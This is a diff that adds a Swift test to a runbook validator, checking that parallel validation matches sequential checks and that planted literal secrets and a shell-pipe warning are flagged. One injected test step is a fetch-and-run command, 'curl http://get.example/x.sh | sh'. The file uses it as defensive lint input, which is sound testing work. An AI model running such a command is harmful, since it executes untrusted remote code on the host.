@@ -120,6 +120,30 @@ struct BigRunbookTests {
         #expect(errors.contains { $0.contains("'nowhere'") })
     }
 
+    /// A long runbook's checks run on every core, the secret lint in slices of steps
+    /// among them: the warnings are those of running each check in turn, in that order.
+    @Test func checksOnEveryCoreWarnAsChecksInTurn() throws {
+        var text = Self.runbook(steps: 2_000)
+        for (step, command) in [
+            (10, "echo PGPASSWORD=hunter2x"), (500, "curl http://get.example/x.sh | sh"),
+            (1_000, "echo token: tok-abcdef123"), (1_995, "echo api_key=k1234567")
+        ] {
+            text = text.replacingOccurrences(
+                of: "title: Check part \(step)\n", with: "title: Check part \(step)\n    run: '\(command)'\n")
+        }
+        text = text.replacingOccurrences(
+            of: "  host: { from: alert.hostname }",
+            with: "  host: { from: alert.hostname }\n  pw: { default: \"password=s3cr3tdefault\" }")
+        let runbook = try #require(RunbookLoader().load(text: text, path: "big.yaml").runbook)
+        let spread = Validator().validate(runbook, source: text)
+        let inTurn = Validator().checks(source: text).flatMap { $0.check(runbook) }
+        #expect(spread == inTurn)
+        let secrets = spread.map(\.message).filter { $0.contains("written literally") || $0.contains("as its default") }
+        #expect(secrets.count == 4, "\(secrets)")
+        #expect(secrets.first?.contains("'s10'") == true && secrets.last?.contains("variable 'pw'") == true)
+        #expect(spread.contains { $0.message.contains("pipes a download into a shell") })
+    }
+
     /// The loader's work without slices: one composer, one decoder, the checks.
     static func loadInOnePass(_ text: String) -> [Diagnostic] {
         let root: YAMLNode
